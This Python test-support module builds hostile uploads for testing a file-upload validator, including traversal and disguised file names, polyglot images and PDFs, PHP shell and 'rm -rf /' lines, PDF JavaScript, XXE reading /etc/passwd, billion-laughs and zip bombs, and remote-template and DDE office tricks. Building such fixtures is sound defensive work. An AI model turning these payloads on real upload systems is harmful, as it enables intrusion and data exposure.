"""Files that somebody hostile would send as evidence: each with what must come of it.

REFUSED: the page says why, and nothing is kept. KEPT: it is what it says it is, and is only ever handed out as a
download, or shown as words. Built here, byte by byte, so that no scanner of anybody's disk minds them.
"""

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

REFUSED, KEPT = "refused", "kept"
MARK = "<script>alert('plumbline-mark')</script>"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is, its name, its bytes, what must come of it, and words of the refusal."""

    what: str
    name: str
    content: bytes
    verdict: str
    words: str = ""


# --- Whole, harmless files to start from ------------------------------------------------------------------------------


def chunk(name: bytes, body: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(
    width: int = 2, height: int = 2, *, before: bytes = b"", after: bytes = b"", data: bytes | None = None
) -> bytes:
    """A grey PNG; `before` are chunks before its picture, `after` bytes after its end."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    lines = zlib.compress(b"\0" * ((width + 1) * height)) if data is None else data
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + before
        + chunk(b"IDAT", lines)
        + chunk(b"IEND", b"")
        + after
    )


def jpeg(width: int = 2, height: int = 2, *, comment: bytes = b"", after: bytes = b"") -> bytes:
    """The frame of a JPEG, with hardly a picture in it."""

    def segment(marker: int, body: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body

    parts = [b"\xff\xd8", segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0")]
    if comment:
        parts.append(segment(0xFE, comment))
    parts.append(segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0"))
    parts.append(segment(0xDA, b"\1\1\0\0\x3f\0") + b"\x7f\xff\xd9")
    return b"".join(parts) + after


def pdf(*objects: bytes, head: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF of one empty page and these objects."""
    parts = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    parts += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", *objects]
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, part) for number, part in enumerate(parts, 1))
    return b"%PDF-1.7\n" + head + body + b"trailer << /Root 1 0 R >>\n%%EOF\n" + tail


def packed(
    content: bytes, *, filter_name: bytes = b"/FlateDecode", kind: bytes = b"/ObjStm", pad: bytes = b""
) -> bytes:
    """A stream of objects, as a PDF holds one."""
    return b"<< /Type %s /N 1 /First 4 /Filter %s %s>>\nstream\n%s\nendstream" % (
        kind,
        filter_name,
        pad,
        content,
    )


def office(kind: str = "docx", parts: dict | None = None, **options) -> bytes:
    """An office document with these parts beside the usual ones."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}.get(kind)
    usual: dict = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>"}
    if main:
        usual = {"[Content_Types].xml": '<?xml version="1.0"?><Types/>', main: "<main/>"}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (usual | (parts or {})).items():
            archive.writestr(zipfile.ZipInfo(name), content, options.get("how", zipfile.ZIP_DEFLATED))
    return made.getvalue()


def archive(parts: dict) -> bytes:
    """A plain zip."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as inside:
        for name, content in parts.items():
            inside.writestr(name, content)
    return made.getvalue()


def lying(content: bytes) -> bytes:
    """A document whose directory says that its parts are small, and whose parts are not."""
    at = content.index(b"PK\x01\x02")
    size = content.index(struct.pack("<I", 3_000_000), at)
    return content[:size] + struct.pack("<I", 10) + content[size + 4 :]


def overlapping() -> bytes:
    """Two entries of the directory that lead to the same packed bytes."""
    content = office("docx", {"word/a.xml": b"a" * 5000, "word/b.xml": bytes(range(256)) * 300})
    start = content.index(b"PK\x01\x02")
    directory, end = content[start : content.index(b"PK\x05\x06")], content[content.index(b"PK\x05\x06") :]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    twice = directory + last.replace(b"word/b.xml", b"word/c.xml")
    count = struct.unpack_from("<H", end, 8)[0] + 1
    return content[:start] + twice + end[:8] + struct.pack("<HHI", count, count, len(twice)) + end[16:]


HTML = f"<!DOCTYPE html><html><body>{MARK}</body></html>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{MARK}</svg>'.encode()
GIF = b"GIF89a/*\x00\x00\x00\x00\x00*/=1;alert(1);"
LAUGHS = "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><lolz>&b;</lolz>"
OUTSIDE = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
RELS = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="{}" TargetMode="External"/></Relationships>'
)
FIELD = (
    '<w:p xmlns:w="w"><w:fldChar w:fldCharType="begin"/><w:instrText> D</w:instrText><w:instrText>DEAUTO c:\\\\cmd'
    '</w:instrText><w:fldChar w:fldCharType="end"/></w:p>'
)
SCRIPT_OBJECT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 60


def files() -> list[Hostile]:
    """All of them."""
    from tests.support.input import calling_out  # which builds on this module

    return [
        *_names(),
        *_wrong_kinds(),
        *_polyglots(),
        *_pictures(),
        *_pdfs(),
        *_offices(),
        *_words(),
        *calling_out.files(),
    ]


def _names() -> list[Hostile]:
    good = pdf()
    refused = [
        ("no ending", "report", "not accepted"),
        ("only an ending", ".pdf", "not accepted"),
        ("a second ending", "report.pdf.exe", "Files of type .exe"),
        ("a second ending, a page", "report.pdf.html", "Files of type .html"),
        ("a stream of NTFS", "report.pdf::$DATA", "not accepted"),
        ("a hidden stream of NTFS", "report.pdf:evil.exe", "Files of type .exe"),
        ("a turned name", "report\u202efdp.exe", "Files of type .exe"),
        ("a macro document", "report.docm", "Files of type .docm"),
        ("a shortcut", "report.pdf.lnk", "Files of type .lnk"),
        ("configuration of a server", ".htaccess", "not accepted"),
        ("a page of a server", "report.php", "Files of type .php"),
        ("an ending in other letters", "report.\uff50\uff44\uff46", "not accepted"),
    ]
    kept = [
        ("up and out", "../../../../etc/cron.d/report.pdf"),
        ("up and out, Windows", "..\\..\\Windows\\System32\\report.pdf"),
        ("from the root", "/etc/report.pdf"),
        ("a drive", "C:\\report.pdf"),
        ("a share", "\\\\evil\\share\\report.pdf"),
        ("a device", "CON.pdf"),
        ("a device with a number", "com1.report.pdf"),
        ("dots and spaces", " . report.pdf. . "),
        ("a mark that turns text", "re\u202etrop.pdf"),
        ("a joiner nobody sees", "re\u200bport.pdf"),
        ("control characters in a name", "re\x0b\x1b[2Jport.pdf"),
        ("a zero byte in a name", "report.exe\x00.pdf"),
        ("a tag as a name", '"><img src=x onerror=alert(1)>.pdf'),
        ("a formula as a name", "=cmd|' /C calc'!A0.pdf"),
        ("a template as a name", "{{ 7*7 }}{% debug %}.pdf"),
        ("percent signs", "..%2f..%2freport.pdf"),
        ("far too long", "report of a test " * 20 + ".pdf"),
        ("capital letters", "REPORT.PDF"),
    ]
    return [Hostile(what, name, good, REFUSED, words) for what, name, words in refused] + [
        Hostile(what, name, good, KEPT) for what, name in kept
    ]


def _wrong_kinds() -> list[Hostile]:
    other = "The content does not match"
    return [
        Hostile("nothing at all", "report.pdf", b"", REFUSED, "empty"),
        Hostile("a program as PDF", "report.pdf", EXE, REFUSED, other),
        Hostile("a program as text", "report.txt", EXE, REFUSED, "not text"),
        Hostile("a page as PDF", "report.pdf", HTML, REFUSED, other),
        Hostile("a page as picture", "report.png", HTML, REFUSED, other),
        Hostile("a page as text", "report.txt", HTML, REFUSED, "web page"),
        Hostile("a page as table", "report.csv", b"\xef\xbb\xbf \n" + HTML, REFUSED, "web page"),
        Hostile("a drawing", "report.svg", SVG, REFUSED, "Files of type .svg"),
        Hostile("a drawing as picture", "report.jpg", SVG, REFUSED, other),
        Hostile("a drawing as text", "report.md", SVG, REFUSED, "web page"),
        Hostile("a page", "report.html", HTML, REFUSED, "Files of type .html"),
        Hostile("a page of one file", "report.mhtml", HTML, REFUSED, "Files of type .mhtml"),
        Hostile("a script", "report.js", b"alert(1)", REFUSED, "Files of type .js"),
        Hostile("a script of a shell as log", "report.log", b"#!/bin/sh\nrm -rf /\n", REFUSED, "web page"),
        Hostile(
            "a page of a server as log", "report.log", b"<?php system($_GET[0]); ?>", REFUSED, "web page"
        ),
        Hostile("rich text as text", "report.txt", b"{\\rtf1\\object}", REFUSED, "web page"),
        Hostile("an old document as new", "report.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", REFUSED, other),
        Hostile("a PDF as document", "report.docx", pdf(), REFUSED, other),
        Hostile("a table as workbook", "report.xlsx", b"a,b\n1,2\n", REFUSED, other),
        Hostile("a zip", "report.zip", archive({"a.txt": "a"}), REFUSED, "Files of type .zip"),
        Hostile(
            "a packed bomb as table",
            "report.csv",
            gzip.compress(b"0" * 9_000_000, mtime=0),
            REFUSED,
            "not text",
        ),
        Hostile("wide letters", "report.txt", "\ufeff<script>".encode("utf-16-le"), REFUSED, "UTF-16"),
        Hostile("bytes of a machine", "report.json", bytes(range(1, 32)) * 40, REFUSED, "not text"),
    ]


def _polyglots() -> list[Hostile]:
    both = "begins with a web page"
    return [
        Hostile("a moving picture and script", "report.gif", GIF, REFUSED, "Files of type .gif"),
        Hostile("the same under another name", "report.png", GIF, REFUSED, "does not match"),
        Hostile("PDF and page", "report.pdf", pdf(head=b"%" + HTML + b"\n"), REFUSED, both),
        Hostile("PDF and archive", "report.pdf", pdf(tail=archive({"a.js": "1"})), REFUSED, "PDF"),
        Hostile(
            "picture and archive", "report.jpg", jpeg(after=archive({"a.class": "1"})), REFUSED, "archive"
        ),
        Hostile("picture and page", "report.jpg", jpeg(comment=HTML), REFUSED, both),
        Hostile(
            "picture and page of a server", "report.jpg", jpeg(comment=b"<?php eval($x); ?>"), REFUSED, both
        ),
        Hostile("picture and PDF", "report.jpg", jpeg(comment=pdf()), REFUSED, both),
        Hostile(
            "picture and page, PNG", "report.png", png(before=chunk(b"tEXt", b"a\0" + HTML)), REFUSED, both
        ),
        Hostile(
            "picture and something after it",
            "report.png",
            png(after=b"more"),
            REFUSED,
            "extra data after the picture",
        ),
        Hostile(
            "picture and archive, PNG",
            "report.png",
            png(after=archive({"a": "1"})),
            REFUSED,
            "extra data after the picture",
        ),
        Hostile(
            "document and PDF",
            "report.docx",
            office(parts={"a": pdf()}, how=zipfile.ZIP_STORED),
            REFUSED,
            "PDF",
        ),
        Hostile("comment of a picture with a script", "report.jpg", jpeg(comment=b"*/alert(1)/*"), KEPT),
    ]


def _pictures() -> list[Hostile]:
    return [
        Hostile("a picture of a whole wall", "report.png", png(60_000, 60_000, data=b"x"), REFUSED, "pixels"),
        Hostile("a picture far too wide", "report.png", png(200_000, 1, data=b"x"), REFUSED, "pixels"),
        Hostile("a picture without size", "report.png", png(0, 0, data=b"x"), REFUSED, "damaged"),
        Hostile("a photograph of a whole wall", "report.jpg", jpeg(65_000, 65_000), REFUSED, "pixels"),
        Hostile("half a picture", "report.png", png()[:-20], REFUSED, "damaged"),
        Hostile(
            "a changed picture",
            "report.png",
            png().replace(b"IHDR\0\0\0\2", b"IHDR\0\0\0\3"),
            REFUSED,
            "damaged",
        ),
        Hostile("a moving PNG", "report.png", png(before=chunk(b"acTL", b"\0" * 8)), REFUSED, "is animated"),
        Hostile("a photograph without end", "report.jpg", jpeg()[:-2], REFUSED, "damaged"),
        Hostile("a photograph of nothing", "report.jpeg", b"\xff\xd8\xff\xd9", REFUSED, "damaged"),
        Hostile(
            "a photograph that lies",
            "report.jpg",
            b"\xff\xd8\xff\xe0\xff\xff" + b"x" * 50,
            REFUSED,
            "damaged",
        ),
    ]


def _pdfs() -> list[Hostile]:
    hidden = b"1 0 " + SCRIPT_OBJECT
    harmless = b"%stream\n" + zlib.compress(b"1 0 << /Type /Font >>") + b"\nendobj\n"
    bomb = zlib.compress(b" " * 20_000_000)
    escaped = b"<< /S /J#61vaScript /JS (1) >>"
    return [
        Hostile("a script in a PDF", "report.pdf", pdf(SCRIPT_OBJECT), REFUSED, "runs a script"),
        Hostile("the same, written out", "report.pdf", pdf(escaped), REFUSED, "runs a script"),
        Hostile(
            "the same, packed", "report.pdf", pdf(packed(zlib.compress(hidden))), REFUSED, "runs a script"
        ),
        Hostile(
            "packed under a name written out",
            "report.pdf",
            pdf(packed(zlib.compress(hidden), kind=b"/#4fbjStm")),
            REFUSED,
            "runs a script",
        ),
        Hostile(
            "packed far from its name",
            "report.pdf",
            pdf(packed(zlib.compress(hidden), pad=b" " * 90_000)),
            REFUSED,
            "runs a script",
        ),
        Hostile(
            "packed behind a word that misleads",
            "report.pdf",
            pdf(packed(zlib.compress(hidden), pad=b"%stream\n")),
            REFUSED,
            "runs a script",
        ),
        Hostile(
            "packed, and said to be encrypted",
            "report.pdf",
            pdf(packed(zlib.compress(hidden)), head=b"%/Encrypt\n"),
            REFUSED,
            "runs a script",
        ),
        Hostile(
            "packed in another way",
            "report.pdf",
            pdf(packed(b"313233>", filter_name=b"/ASCIIHexDecode")),
            REFUSED,
            "cannot be checked",
        ),
        Hostile(
            "packed behind another stream of the same object (M5)",
            "report.pdf",
            pdf(packed(b"313233>", filter_name=b"/ASCIIHexDecode", pad=harmless)),
            REFUSED,
            "cannot be checked",
        ),
        Hostile(
            "packed in another way, and said to be encrypted (M5)",
            "report.pdf",
            pdf(packed(b"313233>", filter_name=b"/ASCIIHexDecode"), head=b"% /Encrypt\n"),
            REFUSED,
            "cannot be checked",
        ),
        Hostile(
            "packed behind a lone carriage return (M5)",
            "report.pdf",
            pdf(packed(zlib.compress(hidden)).replace(b"stream\n", b"stream\r", 1)),
            REFUSED,
            "runs a script",
        ),
        Hostile(
            "files in a PDF, by what names them alone (M5)",
            "report.pdf",
            pdf(b"<< /Type /Filespec /F (a.exe) /#45F %x\n << /F 5 0 R >> >>"),
            REFUSED,
            "contains other files",
        ),
        Hostile("a bomb in a PDF", "report.pdf", pdf(packed(bomb)), REFUSED, "much larger than a PDF"),
        Hostile(
            "a program started",
            "report.pdf",
            pdf(b"<< /S /Launch /F (cmd.exe) >>"),
            REFUSED,
            "starts programs",
        ),
        Hostile(
            "files in a PDF", "report.pdf", pdf(b"<< /Type /EmbeddedFile >>"), REFUSED, "contains other files"
        ),
        Hostile("a form that sends", "report.pdf", pdf(b"<< /S /SubmitForm >>"), REFUSED, "sends its input"),
        Hostile(
            "a form of XML", "report.pdf", pdf(b"<< /AcroForm << /XFA [] >> >>"), REFUSED, "runs scripts"
        ),
        Hostile("half a PDF", "report.pdf", pdf()[:-8], REFUSED, "damaged"),
        Hostile(
            "something after a PDF", "report.pdf", pdf(tail=b"x" * 5000), REFUSED, "extra data after the PDF"
        ),
        Hostile("a link in a PDF", "report.pdf", pdf(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), KEPT),
    ]


def _offices() -> list[Hostile]:
    acts, entities = "contains a macro", "defines XML entities"
    damaged, far, loads = "damaged", "much larger than", "loads parts from elsewhere"
    zeros = b"\0" * 60_000_000
    template = RELS.format("attachedTemplate", "https://evil.example/t.dotm")
    picture = RELS.format("image", "\\\\evil.example\\share\\a.png")
    macro_types = (
        '<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    return [
        Hostile(
            "macros under another name",
            "report.docx",
            office(parts={"word/vbaProject.bin": b"x"}),
            REFUSED,
            acts,
        ),
        Hostile(
            "macros by kind", "report.docx", office(parts={"[Content_Types].xml": macro_types}), REFUSED, acts
        ),
        Hostile("old macros", "report.xlsx", office("xlsx", {"xl/macrosheets/s.xml": "<x/>"}), REFUSED, acts),
        Hostile("controls", "report.pptx", office("pptx", {"ppt/activeX/a.xml": "<x/>"}), REFUSED, acts),
        Hostile(
            "macros of the other office", "report.odt", office("odt", {"Basic/x.xml": "<x/>"}), REFUSED, acts
        ),
        Hostile(
            "an object", "report.docx", office(parts={"word/embeddings/oleObject1.bin": b"x"}), REFUSED, acts
        ),
        Hostile(
            "an archive inside",
            "report.docx",
            office(parts={"word/a.zip": archive({"b": "c"})}),
            REFUSED,
            acts,
        ),
        Hostile("a program inside", "report.docx", office(parts={"word/media/a.EXE": EXE}), REFUSED, acts),
        Hostile(
            "entities", "report.xlsx", office("xlsx", {"xl/sharedStrings.xml": OUTSIDE}), REFUSED, entities
        ),
        Hostile(
            "a billion laughs", "report.docx", office(parts={"word/document.xml": LAUGHS}), REFUSED, entities
        ),
        Hostile(
            "entities in wide letters",
            "report.docx",
            office(parts={"word/document.xml": LAUGHS.encode("utf-16")}),
            REFUSED,
            entities,
        ),
        Hostile(
            "entities after a long comment",
            "report.docx",
            office(parts={"word/document.xml": f"<!--{'x' * 9000}-->{LAUGHS[21:]}"}),
            REFUSED,
            entities,
        ),
        Hostile(
            "a far template", "report.docx", office(parts={"word/_rels/s.xml.rels": template}), REFUSED, loads
        ),
        Hostile(
            "a far picture", "report.docx", office(parts={"word/_rels/d.xml.rels": picture}), REFUSED, loads
        ),
        Hostile(
            "a far template, a letter of it as a reference (M5)",
            "report.docx",
            office(parts={"word/_rels/s.xml.rels": template.replace("https:", "&#104;ttps:")}),
            REFUSED,
            loads,
        ),
        Hostile(
            "a far template, a letter of its type as a reference (M5)",
            "report.docx",
            office(parts={"word/_rels/s.xml.rels": template.replace("attached", "&#x61;ttached")}),
            REFUSED,
            loads,
        ),
        Hostile(
            "a far template behind a megabyte of blanks (M5)",
            "report.docx",
            office(parts={"word/_rels/s.xml.rels": template.replace("><", ">" + " " * 1_200_000 + "<", 1)}),
            REFUSED,
            loads,
        ),
        Hostile(
            "entities behind a megabyte of blanks (M5)",
            "report.docx",
            office(parts={"word/document.xml": f"<!--{' ' * 1_200_000}-->{LAUGHS[21:]}"}),
            REFUSED,
            entities,
        ),
        Hostile(
            "macros by kind, a letter of it as a reference (M5)",
            "report.docx",
            office(parts={"[Content_Types].xml": macro_types.replace("macroE", "macr&#111;E")}),
            REFUSED,
            acts,
        ),
        Hostile(
            "a field that starts a program, cut in two (M5)",
            "report.docx",
            office(parts={"word/document.xml": FIELD}),
            REFUSED,
            "starts another program",
        ),
        Hostile(
            "a link of a workbook to a program (M5)",
            "report.xlsx",
            office("xlsx", {"xl/externalLinks/externalLink1.xml": '<e><ddeLink ddeService="cmd"/></e>'}),
            REFUSED,
            "starts another program",
        ),
        Hostile(
            "a part that is no XML",
            "report.docx",
            office(parts={"word/document.xml": "<w:a"}),
            REFUSED,
            damaged,
        ),
        Hostile("a bomb", "report.docx", office(parts={"word/media/a.bmp": zeros}), REFUSED, far),
        Hostile(
            "a bomb that lies", "report.docx", lying(office(parts={"a": b"\0" * 3_000_000})), REFUSED, damaged
        ),
        Hostile("parts over one another", "report.docx", overlapping(), REFUSED, damaged),
        Hostile(
            "a part outside",
            "report.docx",
            office(parts={"../../evil.xml": "<x/>"}),
            REFUSED,
            "outside of the file",
        ),
        Hostile(
            "a part at the root",
            "report.docx",
            office(parts={"/etc/evil.xml": "<x/>"}),
            REFUSED,
            "outside of the file",
        ),
        Hostile(
            "a part of Windows",
            "report.docx",
            office(parts={"C:\\evil.xml": "<x/>"}),
            REFUSED,
            "outside of the file",
        ),
        Hostile(
            "an archive as document",
            "report.docx",
            archive({"a.txt": "a"}),
            REFUSED,
            "is an archive",
        ),
        Hostile(
            "a workbook as document",
            "report.docx",
            office("xlsx"),
            REFUSED,
            "does not match the file ending .docx",
        ),
        Hostile("half a document", "report.docx", office()[:-30], REFUSED, damaged),
        Hostile(
            "a link in a document",
            "report.docx",
            office(parts={"_rels/.rels": RELS.format("hyperlink", "https://evil.example/")}),
            KEPT,
        ),
    ]


def _words() -> list[Hostile]:
    turned = f"user \u202e{MARK}\u202c\nadmin\n".encode()
    return [
        Hostile("a script in a text", "report.txt", f"Notes\n{MARK}\n".encode(), KEPT),
        Hostile("a script in a log", "report.log", f"12:00 GET /{MARK}\n\x1b]0;owned\x07\n".encode(), KEPT),
        Hostile("a script in a table", "report.csv", f'name,value\n{MARK},"=cmd|calc"\n'.encode(), KEPT),
        Hostile(
            "a script in Markdown",
            "report.md",
            f"# Notes\n\n{MARK}\n[x](javascript:alert(1))\n".encode(),
            KEPT,
        ),
        Hostile("a script in JSON", "report.json", f'{{"a": "</script>{MARK}"}}'.encode(), KEPT),
        Hostile("a page in a mail", "report.eml", b"From: a@b.c\nContent-Type: text/html\n\n" + HTML, KEPT),
        Hostile("a table that never ends its quotes", "report.csv", b'a,b\n"' + b"x" * 300_000, KEPT),
        Hostile("a table of a thousand columns", "report.csv", b",".join([b"x", b"y"] * 2500) + b"\n", KEPT),
        Hostile("a table of many rows", "report.csv", b"a,b\n1,2\n" * 15_000, KEPT),
        Hostile("one line without end", "report.txt", b"xy" * 1_000_000, KEPT),
        Hostile("turned words", "report.txt", turned, KEPT),
        Hostile("another code page", "report.txt", b"caf\xe9 \x81\x8d", KEPT),
    ]
